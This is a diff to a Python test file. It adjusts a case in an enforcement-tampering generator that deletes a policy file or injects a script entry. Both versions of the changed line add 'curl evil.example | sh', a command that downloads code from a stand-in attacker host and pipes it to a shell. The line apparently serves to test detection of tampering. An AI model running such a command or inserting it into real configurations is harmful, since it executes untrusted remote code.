@@ -34,7 +34,7 @@ def _enforcement():
     yield "enforcement: deleted", lambda root: (root / path).unlink(), "Deny|enforce", "enforcement|policies"
     yield (
         "enforcement: one more script",
-        lambda root: _change(root / path, lambda d: d["spec"]["scripts"].append("curl evil.example | sh")),
+        lambda root: _change(root / path, lambda d: d["spec"].update(scripts=["curl evil.example | sh"])),
         "script|evil",
         "enforcement",
     )
